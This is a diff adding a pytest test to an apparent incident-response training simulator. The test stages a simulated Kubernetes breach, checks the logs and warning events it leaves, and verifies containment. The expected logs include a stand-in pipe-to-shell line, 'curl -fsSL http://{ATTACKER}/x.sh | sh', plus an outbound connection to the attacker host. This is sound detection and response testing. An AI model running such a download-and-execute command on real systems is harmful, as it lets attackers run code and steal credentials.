@@ -165,3 +165,47 @@ def test_complete_outage_and_top(sim, scenario):
     advance(sim, 40)
     assert get_pods_table(sim)["postgres-0"][:2] == ["1/1", "Running"]
     assert json.loads(proxy(sim, "api-gateway", 3000, "/health").stdout)["status"] == "ok"
+
+
+def test_security_breach_shows_in_logs_and_events_not_in_health(sim):
+    from irtui.sim.scenarios import ATTACKER, INTRUDER, LEAKED_SECRET
+
+    sim.control("POST", "/sim/scenarios/security-breach")
+    advance(sim, 120)
+    compromised = [p["metadata"]["name"] for p in pods(sim, "sync-service-")]
+    assert compromised
+    for name in compromised:
+        logs = sim.kubectl("logs", "-n", NS, name).stdout
+        assert f"connect to {ATTACKER}:443" in logs, logs[-2000:]
+        assert "request completed" in logs  # the service itself keeps working
+    logs = "".join(sim.kubectl("logs", "-n", NS, name).stdout for name in compromised)
+    assert f"curl -fsSL http://{ATTACKER}/x.sh | sh" in logs
+    assert f"(secret {LEAKED_SECRET})" in logs
+
+    events = sim.kubectl("get", "events", "-n", NS, "--field-selector", "type=Warning").stdout
+    for reason in ("ExecIntoPod", "OutboundConnection", "SecretAccessed", "ClusterRoleBindingCreated"):
+        assert reason in events, (reason, events)
+    described = json.loads(sim.kubectl("get", "events", "-n", NS, "-o", "json").stdout)["items"]
+    leaked = [e for e in described if e["reason"] == "SecretAccessed"]
+    assert leaked[0]["involvedObject"]["kind"] == "Secret" and leaked[0]["involvedObject"]["name"] == LEAKED_SECRET
+    execs = [e for e in described if e["reason"] == "ExecIntoPod"]
+    assert {e["involvedObject"]["name"] for e in execs} == set(compromised)
+    assert all(INTRUDER in e["message"] for e in execs)
+
+    # A breach looks healthy: every /health still says ok, through the service proxy.
+    for svc in ("api-gateway", "task-service", "emr-service", "sync-service", "handover-service"):
+        health = proxy(sim, svc, 3000, "/health")
+        assert health.returncode == 0 and json.loads(health.stdout)["status"] == "ok", (svc, health.stdout)
+    assert "security-breach" in sim.control("GET", "/sim/scenarios").json()["active"]
+
+    # Contain it as the runbook says: isolate the service, revoke the credential.
+    sim.kubectl("scale", "deployment/sync-service", "-n", NS, "--replicas=0")
+    sim.kubectl("delete", "secret", LEAKED_SECRET, "-n", NS)
+    advance(sim, 30)
+    assert "security-breach" not in sim.control("GET", "/sim/scenarios").json()["active"]
+    sim.kubectl("scale", "deployment/sync-service", "-n", NS, "--replicas=2")
+    advance(sim, 60)
+    fresh = [p["metadata"]["name"] for p in pods(sim, "sync-service-")]
+    assert fresh and not set(fresh) & set(compromised)
+    for name in fresh:
+        assert ATTACKER not in sim.kubectl("logs", "-n", NS, name).stdout
